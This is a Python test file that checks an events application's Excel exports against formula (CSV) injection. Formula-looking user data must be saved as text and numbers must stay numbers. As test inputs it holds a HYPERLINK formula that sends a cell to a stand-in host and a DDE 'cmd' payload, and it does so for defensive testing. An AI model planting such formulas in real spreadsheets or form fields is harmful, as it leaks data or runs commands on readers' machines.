"""Excel exports never carry a live formula from user data (OWASP's CSV-injection advice), and stay numbers where
they are numbers.

A name such as `=HYPERLINK("https://evil.example/?d="&C3,"详情")` becomes a clickable formula that sends a cell
of the 汇总表 to another site when the organiser's superior opens the file; every workbook is a
`TextOnlyWorkbook`, whose saving writes such cells as text.
"""
import ast
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from core.extensions import db
from events.models import EventSession, Meeting, Outcome, Registration, RegistrationStaff
from events.services.workbooks import FORMULA_STARTS, TextOnlyWorkbook, workbook_bytes
from market.models import Enterprise, Institution, Product
from tests.conftest import sign_in
from tests.events.reports.world import build_world
from tests.security.project_sources import project_sources

FORMULA = '=HYPERLINK("https://evil.example/?d="&C3,"详情")'
DANGEROUS = [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"https://evil.example\")",
             "=cmd|' /C calc'!A0", "#N/A"]
EXPORTS = ("registrations", "schedule", "outcomes")
WORKBOOK_MODULE = "events/services/workbooks.py"


def _read(content: bytes):
    return load_workbook(BytesIO(content))


def _formula_elements(content: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_reads_as_a_formula_is_written_as_text(value):
    workbook = TextOnlyWorkbook()
    workbook.active.cell(row=1, column=1, value=value)
    content = workbook_bytes(workbook)
    cell = _read(content).active["A1"]
    assert cell.data_type == "s" and cell.quotePrefix and isinstance(cell.value, str)
    assert cell.value == value.replace("\r", "\n")  # (XML keeps a carriage return as a line feed)
    assert not _formula_elements(content)


@pytest.mark.parametrize("value", [-5, Decimal("-1.25"), 0, 12.5, "—", "普通文本", "a=b"])
def test_numbers_stay_numbers_and_plain_text_stays_plain(value):
    workbook = TextOnlyWorkbook()
    workbook.active["A1"] = value
    cell = _read(workbook_bytes(workbook)).active["A1"]
    assert cell.value == value and not cell.quotePrefix
    assert cell.data_type == ("s" if isinstance(value, str) else "n")


def test_every_starting_character_of_owasp_is_covered():
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_STARTS)


def test_workbooks_are_made_only_where_formulas_are_turned_into_text():
    """A new export cannot forget the guard: openpyxl's Workbook (or load_workbook, or a csv writer) is used
    nowhere but in events/services/workbooks.py."""
    offenders = []
    for source in project_sources():
        if source.path == WORKBOOK_MODULE:
            continue
        for node in ast.walk(source.tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                offenders += [f"{source.path}:{node.lineno} imports {a.name}" for a in node.names
                              if a.name in ("Workbook", "load_workbook", "workbook")]
            elif isinstance(node, ast.Attribute) and node.attr in ("Workbook", "load_workbook", "writer",
                                                                   "DictWriter"):
                base = node.value
                if isinstance(base, ast.Name) and base.id in ("openpyxl", "csv"):
                    offenders.append(f"{source.path}:{node.lineno} uses {base.id}.{node.attr}")
    assert not offenders, "\n".join(offenders)


@pytest.fixture
def world_named_as_formulas(app):
    with app.app_context():
        world = build_world()
        enterprises = db.session.scalars(select(Enterprise).order_by(Enterprise.id)).all()
        for enterprise, name in zip(enterprises, DANGEROUS):
            enterprise.name = name
        bank, fund = db.session.get(Institution, world.ids["bank"]), db.session.get(Institution, world.ids["fund"])
        bank.name, fund.name = FORMULA.replace("详情", "银行"), "@" + fund.name
        for product in db.session.scalars(select(Product)):
            product.name = "=1+" + product.name
        for session in db.session.scalars(select(EventSession)):
            session.title = "-" + session.title
        db.session.execute(update(Outcome).values(note=FORMULA))
        registration = db.session.scalar(select(Registration).where(Registration.institution_id == bank.id))
        db.session.add(RegistrationStaff(registration_id=registration.id, name=FORMULA, title="", phone=""))
        db.session.execute(update(Meeting).values(score=-250))  # a negative number stays a number
        db.session.commit()
        return world


@pytest.mark.parametrize("export", EXPORTS)
def test_user_data_that_starts_like_a_formula_stays_text_in_every_export(client, world_named_as_formulas, export):
    sign_in(client, world_named_as_formulas.emails["admin"])
    response = client.get(f"/reports/export/{export}.xlsx")
    assert response.status_code == 200
    assert not _formula_elements(response.data)
    workbook = _read(response.data)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS + ("\n",))]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky), \
        [(cell.coordinate, cell.value, cell.data_type) for cell in risky if not cell.quotePrefix]
    values = {cell.value for cell in cells}
    assert FORMULA in values or FORMULA.replace("详情", "银行") in values
    assert len(risky) >= 3
    numbers = [cell for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers and all(isinstance(cell.value, (int, float)) for cell in numbers)
    if export == "schedule":
        assert -0.25 in {cell.value for cell in numbers}
